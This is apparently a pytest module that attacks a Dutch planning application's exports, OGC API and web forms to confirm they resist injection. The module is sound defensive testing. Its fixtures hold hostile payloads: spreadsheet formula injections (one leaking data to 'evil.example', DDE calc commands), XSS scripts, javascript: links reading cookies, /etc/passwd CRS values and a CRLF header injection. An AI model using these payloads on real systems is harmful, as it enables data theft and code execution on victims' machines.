"""Issue 23's new input paths attacked, beyond file imports: OGC API query values and rights, table exports
(formula injection in CSV and XLSX), claim exports with hostile names, and the verantwoording in exports.

Each test names the attack and asserts the safe behaviour: a Dutch 400/403/404 problem, escaped HTML, a
spreadsheet cell that is text and never a formula, no data across the lines the REST API draws.
One database per module (the edge is tested, so SQLite only).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from novex.settings import Settings
from tests.conftest import refill
from tests.fixtures.clients import make_clients
from tests.fixtures.geo import UTRECHT, square

pytestmark = pytest.mark.sqlite_only

X, Y = UTRECHT
RD = "http://www.opengis.net/def/crs/EPSG/0/28992"
PROBLEM = "application/problem+json"
RD_HEADER = {"Content-Crs": "epsg:28992"}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
XSS = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'


@pytest.fixture(scope="module")
def world(template_db, backend, tmp_path_factory):
    """Clients per role; a Utrecht voorstel whose claims are named like formulas (one conflicting pair)."""
    folder = tmp_path_factory.mktemp("open-standards-attacks")
    url = f"sqlite:///{folder / 'novex.db'}"
    refill(url, template_db)
    api = make_clients(Settings(data_dir=folder / "data", database_url=url))
    made = api.utrecht.post("/api/v1/voorstellen", json={"provincie": "PV26", "naam": f"=HYPERLINK(1) {XSS}"})
    assert made.status_code == 201, made.text
    api.voorstel, api.ids = made.json()["id"], []
    for i, naam in enumerate(FORMULAS):
        domein = "wonen" if i % 2 == 0 else "energie-wind"
        body = {"type": "Feature", "geometry": square(X + (i // 2) * 3000, Y, 300).__geo_interface__,
                "properties": {"naam": naam, "domein": domein, "extern_id": f"x{i}", "notities": FORMULAS[0],
                               "bron": "@bron", "eigenaar": "-eigenaar"}}  # fmt: skip
        response = api.utrecht.post(f"/api/v1/voorstellen/{api.voorstel}/claims", json=body, headers=RD_HEADER)
        assert response.status_code == 201, response.text
        api.ids.append(response.json()["id"])
    yield api
    api.lezer.app.state.db.engine.dispose()


def refused(response, status: int, *words: str) -> str:
    assert response.status_code == status, response.text[:600]
    assert response.headers["content-type"].startswith(PROBLEM), response.headers["content-type"]
    detail = json.dumps(response.json(), ensure_ascii=False)
    assert all(w in detail for w in words), detail
    assert "Traceback" not in response.text
    return detail


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def no_formula_in_csv(rows: list[list[str]]) -> None:
    """No CSV cell a spreadsheet would run: none starts with = + - @ tab or CR (a number is no text)."""
    for row in rows[1:]:
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert _number(cell), (cell, row)


def _number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def no_formula_in_xlsx(content: bytes) -> list:
    """Every sheet's cells: none is a formula (type 'f'), whatever the text starts with; the cell values."""
    book = load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    with zipfile.ZipFile(io.BytesIO(content)) as z:  # and no <f> element anywhere in the package
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    return values


# -- tables of the analysis: formaat and formula injection ------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/v1/conflicten", "/api/v1/doelbereik"])
@pytest.mark.parametrize("formaat", ["pdf", "CSV", "csv ", "", "x" * 5000, "json,csv", "../csv", XSS])
def test_an_unknown_table_format_is_a_400_naming_formaat(world, path, formaat):
    refused(world.lezer.get(path, params={"formaat": formaat, "provincie": "PV26"}), 400, "formaat")


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_conflicts_between_claims_named_like_formulas_are_text_in_the_table(world, formaat):
    response = world.lezer.get("/api/v1/conflicten", params={"provincie": "PV26", "formaat": formaat})
    assert response.status_code == 200, response.text[:300]
    conflicts = world.lezer.get("/api/v1/conflicten", params={"provincie": "PV26"}).json()
    assert conflicts["count"] == 3  # three pairs of wonen × wind squares, each pair overlapping whole
    if formaat == "csv":
        rows = csv_rows(response.content)
        no_formula_in_csv(rows)
        cells = {c for r in rows for c in r}
        assert "'" + FORMULAS[0] in cells and "'+cmd|' /C calc'!A0" in cells  # kept, behind a quote
    else:
        values = no_formula_in_xlsx(response.content)
        assert FORMULAS[1] in values or "'" + FORMULAS[1] in values  # the name is there, as text


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_goals_table_holds_no_formula(world, formaat):
    response = world.lezer.get("/api/v1/doelbereik", params={"provincie": "PV26", "formaat": formaat})
    assert response.status_code == 200, response.text[:300]
    if formaat == "csv":
        no_formula_in_csv(csv_rows(response.content))
    else:
        no_formula_in_xlsx(response.content)


def test_repeated_or_reordered_provinces_are_one_scope_with_a_short_file_name(world):
    # each distinct list was its own analysis (computed and cached again) and grew the file name without end
    response = world.lezer.get("/api/v1/conflicten", params=[("provincie", "PV26")] * 200 + [("formaat", "csv")])
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-disposition"] == 'attachment; filename="conflicten-PV26.csv"'
    pair = world.lezer.get("/api/v1/conflicten", params={"provincie": ["PV27", "PV26", "PV27"], "formaat": "csv"})
    assert pair.headers["content-disposition"] == 'attachment; filename="conflicten-PV26-PV27.csv"'
    first = world.lezer.get("/api/v1/analyse/status", params={"provincie": ["PV26", "PV27"]}).json()
    again = world.lezer.get("/api/v1/analyse/status", params={"provincie": ["PV27", "PV26", "PV27", "PV26"]}).json()
    assert first["berekendOp"] is not None and again["berekendOp"] == first["berekendOp"]  # not computed anew


# -- claim exports with hostile names ---------------------------------------------------------------------------


def export(world, formaat: str, client=None):
    client = client or world.utrecht
    response = client.get(f"/api/v1/voorstellen/{world.voorstel}/export", params={"formaat": formaat})
    assert response.status_code == 200, (formaat, response.text[:300])
    return response


def test_the_claims_csv_neutralises_every_formula_and_still_imports_its_names(world):
    rows = csv_rows(export(world, "csv").content)
    assert len(rows) == 1 + len(FORMULAS)
    no_formula_in_csv(rows)
    header = rows[0]
    assert [r[header.index("naam")] for r in rows[1:]] == ["'" + f for f in FORMULAS]  # kept behind a quote
    assert all(r[header.index("notities")] == "'" + FORMULAS[0] for r in rows[1:])
    assert all(r[header.index("bron")] == "'@bron" for r in rows[1:])
    assert all(r[header.index("eigenaar")] == "'-eigenaar" for r in rows[1:])


def test_the_claims_xlsx_with_its_verantwoording_has_no_formula_cell(world):
    body = {"versie": 0, "datasets": [{"naam": "=cmd|' /C calc'!A0", "vindplaats": '=HYPERLINK("http://x")',
                                       "licentie": "+1", "gebruik": "@x"}],
            "werkwijze": "-1+1"}  # fmt: skip
    current = world.utrecht.get(f"/api/v1/voorstellen/{world.voorstel}/verantwoording").json()["versie"]
    put = world.utrecht.put(f"/api/v1/voorstellen/{world.voorstel}/verantwoording", json=body | {"versie": current})
    assert put.status_code == 200, put.text[:300]
    values = no_formula_in_xlsx(export(world, "xlsx").content)
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in values)  # the text is there, as text


@pytest.mark.parametrize("formaat", ["geojson", "gpkg", "fgb", "gio"])
def test_other_exports_carry_formula_and_markup_names_as_data(world, formaat, tmp_path):
    content = export(world, formaat).content
    if formaat == "geojson":
        data = json.loads(content)
        assert [f["properties"]["naam"] for f in data["features"]] == FORMULAS  # data, unchanged
        return
    if formaat == "gio":
        with zipfile.ZipFile(io.BytesIO(content)) as z:
            gml = next(n for n in z.namelist() if n.endswith(".gml"))
            text = z.read(gml).decode("utf-8")
        from xml.etree import ElementTree

        ElementTree.fromstring(text)  # well-formed XML whatever the names hold
        assert "<script>" not in text
        return
    import pyogrio

    path = tmp_path / f"x.{formaat}"
    path.write_bytes(content)
    layers = [n for n, _ in pyogrio.list_layers(path)]
    frame = pyogrio.read_dataframe(path, layer=layers[0])
    assert len(frame) == len(FORMULAS)


@pytest.mark.parametrize("formaat", ["dwg", "", "CSV", "x" * 5000, XSS, "gpkg\r\nX-Evil: 1"])
def test_an_unknown_export_format_is_refused_naming_formaat(world, formaat):
    response = world.utrecht.get(f"/api/v1/voorstellen/{world.voorstel}/export", params={"formaat": formaat})
    assert response.status_code in (400, 406), response.text[:300]
    assert "formaat" in response.text and "x-evil" not in response.headers
    assert "<script>" not in response.text or response.headers["content-type"].startswith(PROBLEM)


# -- OGC API: values the earlier attack pass did not try ------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "value"),
    [("crs", "+proj=longlat +nadgrids=/etc/passwd"), ("bbox-crs", "+proj=longlat +nadgrids=/etc/passwd"),
     ("crs", "file:///etc/passwd"), ("crs", "EPSG:4326"), ("crs", "urn:ogc:def:crs:EPSG::28992"),
     ("crs", "http://www.opengis.net/def/crs/EPSG/0/28992/../4326"), ("crs", "x" * 6000),
     ("bbox-crs", "y" * 6000), ("crs", "http://www.opengis.net/def/crs/EPSG/0/28992\u200b")],
)  # fmt: skip
def test_a_proj_string_path_or_long_crs_is_a_400_naming_it_and_short(world, name, value):
    params = {name: value} | ({"bbox": "4,52,5,53"} if name == "bbox-crs" else {})
    detail = refused(world.lezer.get("/ogc/v1/collections/claims/items", params=params), 400, name)
    assert "/etc/passwd" not in detail or "nadgrids" in value or "file:" in value
    assert len(detail) < 1500, len(detail)  # the refused value is not echoed whole


@pytest.mark.parametrize("bbox", ["1," * 3000 + "1", "9" * 6000 + ",0,1,1", "1,2,3,4," + "x" * 6000])
def test_a_very_long_bbox_is_a_short_400(world, bbox):
    detail = refused(world.lezer.get("/ogc/v1/collections/claims/items", params={"bbox": bbox}), 400, "bbox")
    assert len(detail) < 1500, len(detail)


@pytest.mark.parametrize(
    "path",
    [
        "/collections/beperkingen-../x",
        "/collections/beperkingen-..%2fx",
        "/collections/claims-voorstel-%E2%91%A0",
        "/collections/claims-voorstel-١",
    ],
)
def test_odd_collection_ids_are_a_404(world, path):
    refused(world.lezer.get("/ogc/v1" + path), 404)


def test_the_conflicts_collection_escapes_names_in_html_and_keeps_them_in_json(world):
    page = world.lezer.get("/ogc/v1/collections/conflicten/items", params={"f": "html"})
    assert page.status_code == 200, page.text[:300]
    assert "<script>" not in page.text
    names = {f["properties"]["naam_a"] for f in
             world.lezer.get("/ogc/v1/collections/conflicten/items").json()["features"]}  # fmt: skip
    assert names & set(FORMULAS)


def test_a_voorstel_name_with_markup_is_escaped_in_every_ogc_page(world):
    for path in ("/collections", f"/collections/claims-voorstel-{world.voorstel}",
                 f"/collections/claims-voorstel-{world.voorstel}/items",
                 f"/collections/claims-voorstel-{world.voorstel}/items/{world.ids[0]}"):  # fmt: skip
        page = world.lezer.get("/ogc/v1" + path, params={"f": "html"})
        assert page.status_code == 200, (path, page.text[:300])
        assert "<script>alert" not in page.text and "onerror=alert(2)>" not in page.text, path


@pytest.mark.parametrize("role", ["lezer", "utrecht", "zuid_holland", "vro", "departement"])
def test_each_role_reads_through_ogc_exactly_the_claims_the_rest_api_lists(world, role):
    client = getattr(world, role)
    rest = client.get("/api/v1/claims", params={"limit": 1000})
    ogc = client.get("/ogc/v1/collections/claims/items", params={"limit": 5000})
    assert ogc.status_code == 200, ogc.text[:300]
    assert rest.status_code == 200, rest.text[:300]
    assert {c["id"] for c in rest.json()["features"]} == {f["id"] for f in ogc.json()["features"]}
    for claim_id in world.ids:
        assert (client.get(f"/api/v1/claims/{claim_id}").status_code == 200) == (
            client.get(f"/ogc/v1/collections/claims/items/{claim_id}").status_code == 200
        )


def test_a_revoked_token_and_an_expired_session_read_nothing_through_ogc(world):
    from sqlalchemy import update

    from novex import bootstrap
    from novex.access import Actor
    from novex.store.tables.accounts import WebSessionRow
    from tests.fixtures.clients import PASSWORD

    db = world.lezer.app.state.db
    with db.session() as session:
        accounts = bootstrap.account_service(session)
        user = accounts.add_user(Actor.operator(), "verloopt@example.nl", "lezer", "lezer", PASSWORD)
        token = accounts.issue_token(user)
    bearer = {"Authorization": f"Bearer {token}"}
    assert world.anonymous.get("/ogc/v1/collections", headers=bearer).status_code == 200
    with db.session() as session:
        bootstrap.account_service(session).reset_password(Actor.operator(), user.id)  # revokes its tokens
    for path in ("/collections", "/collections/claims/items", f"/collections/claims/items/{world.ids[0]}"):
        refused(world.anonymous.get("/ogc/v1" + path, headers=bearer), 401)
    browser = type(world.anonymous)(world.anonymous.app)
    login = browser.post("/inloggen", data={"email": "lezer@example.nl", "wachtwoord": PASSWORD},
                         follow_redirects=False)  # fmt: skip
    assert login.status_code == 303
    assert browser.get("/ogc/v1/collections", params={"f": "json"}).status_code == 200
    with db.session() as session:
        session.execute(update(WebSessionRow).values(expires_at=datetime.now(UTC) - timedelta(minutes=1)))
    expired = browser.get("/ogc/v1/collections", params={"f": "json"})
    refused(expired, 401)


# -- control characters: a worksheet and GML cannot hold them ---------------------------------------------------


def stored_claims(world) -> int:
    return world.lezer.get(f"/ogc/v1/collections/claims-voorstel-{world.voorstel}/items").json()["numberMatched"]


CONTROLS = ["a\x01b", "a\x0bb", "a\x1fb", "a\x7fb", "a\u202eb"]


@pytest.mark.parametrize("naam", CONTROLS)
def test_a_claim_or_voorstel_named_with_a_control_character_is_refused(world, naam):
    # they were stored, and then every XLSX of the voorstel and of the conflicts they were in answered 500
    # (openpyxl refuses them) and the GIO export was no XML; a bidi override disguises a name on every page
    body = {"type": "Feature", "geometry": square(X + 30000, Y, 300).__geo_interface__,
            "properties": {"naam": naam, "domein": "wonen"}}  # fmt: skip
    response = world.utrecht.post(f"/api/v1/voorstellen/{world.voorstel}/claims", json=body, headers=RD_HEADER)
    refused(response, 400, "naam bevat een stuurteken")
    notes = body | {"properties": {"naam": "Wijk", "domein": "wonen", "notities": naam}}
    response = world.utrecht.post(f"/api/v1/voorstellen/{world.voorstel}/claims", json=notes, headers=RD_HEADER)
    refused(response, 400, "notities")
    refused(world.utrecht.post("/api/v1/voorstellen", json={"provincie": "PV26", "naam": naam}), 400, "naam")
    toelichting = {"provincie": "PV26", "naam": "Goed", "toelichting": naam}
    refused(world.utrecht.post("/api/v1/voorstellen", json=toelichting), 400, "toelichting")
    assert stored_claims(world) == len(FORMULAS)  # nothing stored


def test_a_claim_file_with_a_control_character_in_a_name_is_refused_whole(world, tmp_path):
    features = [{"type": "Feature", "geometry": square(X + 30000 + 1000 * i, Y, 300).__geo_interface__,
                 "properties": {"naam": naam, "domein": "wonen"}} for i, naam in enumerate(["Goed", "a\x0bb"])]  # fmt: skip
    data = json.dumps({"type": "FeatureCollection", "features": features,
                       "crs": {"type": "name", "properties": {"name": "EPSG:28992"}}})  # fmt: skip
    response = world.utrecht.post(f"/api/v1/voorstellen/{world.voorstel}/import",
                                  files={"bestand": ("claims.geojson", data.encode(), "application/geo+json")})  # fmt: skip
    assert response.status_code in (400, 422), response.text[:400]
    assert "naam bevat een stuurteken" in response.text
    assert stored_claims(world) == len(FORMULAS)


def test_tables_and_gio_written_from_names_stored_before_the_check_still_open(tmp_path):
    # names stored before the input check (or by a path that skips it) must not break an export for everyone
    from xml.etree import ElementTree

    from shapely.geometry import box

    from novex.geo.gio import Locatie, write_gio
    from novex.geo.tables_out import to_csv, to_xlsx

    names = [*CONTROLS, "\x01=cmd|' /C calc'!A0", "a\ufffeb"]
    book = load_workbook(io.BytesIO(to_xlsx("t", ["naam", "n"], [[n, 1] for n in names])))
    cells = [row[0].value for row in book.active.iter_rows(min_row=2)]
    assert cells == ["ab", "ab", "ab", "a\x7fb", "a\u202eb", "=cmd|' /C calc'!A0", "ab"]
    assert all(row[0].data_type == "s" for row in book.active.iter_rows(min_row=2))  # the formula stays text
    assert csv_rows(to_csv(["naam"], [[n] for n in names]))[1:][5] == ["\x01=cmd|' /C calc'!A0"]
    path = write_gio(
        tmp_path / "x.gml", [Locatie(box(0, 0, 1, 1), f"id{i}", n) for i, n in enumerate(names)], "/w", "/e"
    )
    root = ElementTree.parse(path).getroot()  # well-formed XML
    shown = [e.text for e in root.iter("{https://standaarden.overheid.nl/stop/imop/geo/}naam")]
    assert shown == ["ab", "ab", "ab", "a\x7fb", "a\u202eb", "=cmd|' /C calc'!A0", "ab"]


def test_exports_of_names_stored_before_the_check_open_for_everyone(world):
    # a claim named with control characters before the input check made the national conflicts XLSX a 500
    from sqlalchemy import update

    from novex.store.tables.claims import ClaimRow

    made = world.zuid_holland.post("/api/v1/voorstellen", json={"provincie": "PV28", "naam": "Oud"}).json()["id"]
    ids = []
    for i, domein in enumerate(("wonen", "energie-wind")):
        body = {"type": "Feature", "geometry": square(92_000 + 100 * i, 437_000, 300).__geo_interface__,
                "properties": {"naam": f"Oud {i}", "domein": domein}}  # fmt: skip
        response = world.zuid_holland.post(f"/api/v1/voorstellen/{made}/claims", json=body, headers=RD_HEADER)
        assert response.status_code == 201, response.text[:300]
        ids.append(response.json()["id"])
    with world.lezer.app.state.db.session() as session:
        for claim_id, naam in zip(ids, ("a\x01=b", "c\x0bd\ufffe"), strict=True):
            session.execute(update(ClaimRow).where(ClaimRow.id == claim_id).values(naam=naam, notities=naam))
    book = world.lezer.get("/api/v1/conflicten", params={"provincie": "PV28", "formaat": "xlsx"})
    assert book.status_code == 200, book.text[:300]
    assert {"a=b", "cd"} <= set(no_formula_in_xlsx(book.content))
    claims = world.zuid_holland.get(f"/api/v1/voorstellen/{made}/export", params={"formaat": "xlsx"})
    assert claims.status_code == 200, claims.text[:300]
    assert {"a=b", "cd"} <= set(no_formula_in_xlsx(claims.content))
    gio = world.zuid_holland.get(f"/api/v1/voorstellen/{made}/export", params={"formaat": "gio"})
    with zipfile.ZipFile(io.BytesIO(gio.content)) as z:
        gml = z.read(next(n for n in z.namelist() if n.endswith(".gml")))
    from xml.etree import ElementTree

    names = {e.text for e in ElementTree.fromstring(gml).iter("{https://standaarden.overheid.nl/stop/imop/geo/}naam")}
    assert names == {"a=b", "cd"}


# -- the verantwoording on the web: a stale form, a textarea breakout --------------------------------------------


def browser(world, role: str):
    from tests.fixtures.clients import ACCOUNTS, PASSWORD

    client = type(world.anonymous)(world.anonymous.app)
    login = client.post("/inloggen", data={"email": ACCOUNTS[role][0], "wachtwoord": PASSWORD},
                        follow_redirects=False)  # fmt: skip
    assert login.status_code == 303
    return client


def test_a_stale_verantwoording_form_does_not_overwrite_a_newer_one(world):
    import yaml

    from tests.fixtures.web import csrf_of, field

    vid = world.utrecht.post("/api/v1/voorstellen", json={"provincie": "PV26", "naam": "Verouderd"}).json()["id"]
    web = browser(world, "utrecht")
    page = web.get(f"/voorstellen/{vid}/verantwoording").text
    versie, token = field(page, "versie"), csrf_of(page)
    assert versie == "0"
    newer = {"versie": 0, "werkwijze": "van VRO", "datasets": [{"naam": "BRT", "vindplaats": "https://pdok.nl"}]}
    assert world.vro.put(f"/api/v1/voorstellen/{vid}/verantwoording", json=newer).status_code == 200
    stale = yaml.safe_dump({"werkwijze": "</textarea><script>alert(1)</script>"})
    response = web.post(f"/voorstellen/{vid}/verantwoording", data={"tekst": stale, "versie": versie, "csrf": token})
    assert response.status_code == 409, response.text[:300]
    assert "intussen gewijzigd" in response.text
    assert "<script>alert(1)" not in response.text  # the text sent back into the textarea stays escaped
    after = world.lezer.get(f"/api/v1/voorstellen/{vid}/verantwoording").json()
    assert (after["versie"], after["werkwijze"]) == (1, "van VRO")


def test_a_verantwoording_link_text_is_never_a_link(world):
    vid = world.utrecht.post("/api/v1/voorstellen", json={"provincie": "PV26", "naam": "Links"}).json()["id"]
    body = {"versie": 0, "datasets": [{"naam": "N", "vindplaats": "javascript:alert(document.cookie)",
                                       "ngr": "data:text/html,<script>alert(1)</script>", "licentie": "vbscript:x"}],
            "werkwijze": "</textarea><script>alert(1)</script>"}  # fmt: skip
    assert world.utrecht.put(f"/api/v1/voorstellen/{vid}/verantwoording", json=body).status_code == 200
    for role in ("utrecht", "zuid_holland"):  # the editor's page holds the textarea, the other's not
        page = browser(world, role).get(f"/voorstellen/{vid}/verantwoording")
        assert page.status_code == 200, page.text[:300]
        assert "javascript:alert(document.cookie)" in page.text  # shown as text
        assert 'href="javascript:' not in page.text and 'href="data:' not in page.text
        assert "<script>alert(1)" not in page.text and "</textarea><script>" not in page.text


@pytest.mark.parametrize("formaat", ["csv", "xlsx", "json"])
def test_tables_and_exports_without_a_valid_token_give_no_file(world, formaat):
    paths = ["/api/v1/conflicten", "/api/v1/doelbereik"]
    if formaat != "json":
        paths.append(f"/api/v1/voorstellen/{world.voorstel}/export")
    for path in paths:
        for headers in ({}, {"Authorization": "Bearer garbage"}, {"Authorization": "Basic YTpi"}):
            response = world.anonymous.get(path, params={"formaat": formaat, "provincie": "PV26"}, headers=headers)
            refused(response, 401)
            assert "content-disposition" not in response.headers


@pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-Infinity"])
def test_a_non_finite_min_conflict_is_refused_for_what_it_is(world, value):
    for path in ("/api/v1/analyse", "/api/v1/novex-gebieden/novex-rotterdamse-haven/analyse"):
        detail = refused(world.lezer.get(path, params={"minConflictHa": value}), 400, "minConflictHa")
        assert "is geen eindig getal" in detail and "hoogstens" not in detail, detail  # was: "at most 100000"
